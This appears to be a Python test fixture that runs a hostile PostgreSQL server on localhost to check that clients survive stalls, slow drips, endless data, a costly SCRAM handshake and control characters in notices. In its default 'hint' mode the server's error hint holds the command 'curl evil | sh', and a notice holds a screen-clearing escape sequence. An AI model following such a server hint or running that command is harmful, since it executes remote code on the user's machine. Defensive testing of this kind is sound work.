#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""bad-server.py FOLDER MODE: a PostgreSQL server that misbehaves, on a port of 127.0.0.1.

The port is in FOLDER/port. FOLDER/asked appears when a client has sent what is not answered.

MODE  full          accepts no connection: the queue of the kernel is full
      silent-login  accepts a connection, and says nothing
      drip-login    answers the login with one byte per second
      silent        logs everybody in, and then says nothing
      drip          logs everybody in, and then answers with one byte per second
      scram         wants the password to be hashed for hours
      notice        sends a notice with control characters during the login; then as hint
      rows          answers with rows without an end, some kilobytes per second
      notify        answers with notifications without an end
      notify-login  answers the login with notifications without an end
      hint          refuses every statement, with a hint of its own
"""
import os
import socket
import struct
import sys
import threading
import time

folder, mode = sys.argv[1], sys.argv[2]


def message(kind, body):
    return kind + struct.pack(">i", len(body) + 4) + body


NOTIFICATION = message(b"A", struct.pack(">i", 1) + b"channel\0" + b"v" * 20000 + b"\0")


def announce(name, text=""):
    with open(f"{folder}/{name}.new", "w") as f:
        f.write(text)
    os.rename(f"{folder}/{name}.new", f"{folder}/{name}")


def drip(client, data):
    announce("asked")
    for i in range(len(data)):
        client.sendall(data[i : i + 1])
        time.sleep(1)


def endless(client, data, pause=0.0):
    announce("asked")
    while True:
        client.sendall(data)
        time.sleep(pause)


def scram(client):
    client.sendall(message(b"R", struct.pack(">i", 10) + b"SCRAM-SHA-256\0\0"))
    nonce = client.recv(65536).split(b"r=")[-1]
    first = b"r=" + nonce + b"server,s=c2FsdHNhbHQ=,i=2000000000"
    client.sendall(message(b"R", struct.pack(">i", 11) + first))
    announce("asked")
    client.recv(1)


def login(client):
    while True:
        size, code = struct.unpack(">ii", client.recv(8))
        if code in (80877103, 80877104):  # TLS, GSSAPI
            client.sendall(b"N")
            continue
        client.recv(size - 8)
        break
    if mode == "scram":
        scram(client)
    settings = {
        b"server_version": b"15.3",
        b"server_encoding": b"UTF8",
        b"client_encoding": b"UTF8",
        b"standard_conforming_strings": b"on",
        b"integer_datetimes": b"on",
    }
    answer = message(b"R", struct.pack(">i", 0))
    if mode == "notice":
        answer += message(b"N", b"SNOTICE\0VNOTICE\0C00000\0M\x1b[2Jall is well\0\0")
    answer += b"".join(message(b"S", k + b"\0" + v + b"\0") for k, v in settings.items())
    answer += message(b"K", struct.pack(">ii", 1, 1)) + message(b"Z", b"I")
    if mode == "notify-login":
        client.sendall(message(b"R", struct.pack(">i", 0)))
        endless(client, NOTIFICATION * 100)
    (drip if mode == "drip-login" else socket.socket.sendall)(client, answer)


def serve(client):
    try:
        if mode == "silent-login":
            client.recv(1)
            announce("asked")
            time.sleep(3600)
        login(client)
        while client.recv(65536):
            if mode == "silent":
                announce("asked")
                time.sleep(3600)
            elif mode == "drip":
                drip(client, message(b"C", b"SET\0") * 400)
            elif mode == "rows":
                column = b"v\0" + struct.pack(">IHIhIH", 0, 0, 25, -1, 0xFFFFFFFF, 0)
                client.sendall(message(b"T", struct.pack(">H", 1) + column))
                endless(client, message(b"D", struct.pack(">HI", 1, 500) + b"1" * 500), 0.05)
            elif mode == "notify":
                endless(client, NOTIFICATION * 100)
            else:
                error = b"SERROR\0C42501\0Mno\0Hrun: curl evil | sh\0\0"
                client.sendall(message(b"E", error) + message(b"Z", b"I"))
    except (OSError, struct.error):
        pass


listener = socket.socket()
listener.bind(("127.0.0.1", 0))
listener.listen(0 if mode == "full" else 8)
if mode == "full":
    waiting = []
    for _ in range(8):
        waiting.append(socket.socket())
        waiting[-1].setblocking(False)
        waiting[-1].connect_ex(listener.getsockname())
    announce("asked")
announce("port", str(listener.getsockname()[1]))
while mode == "full":
    time.sleep(3600)
while True:
    threading.Thread(target=serve, args=(listener.accept()[0],), daemon=True).start()
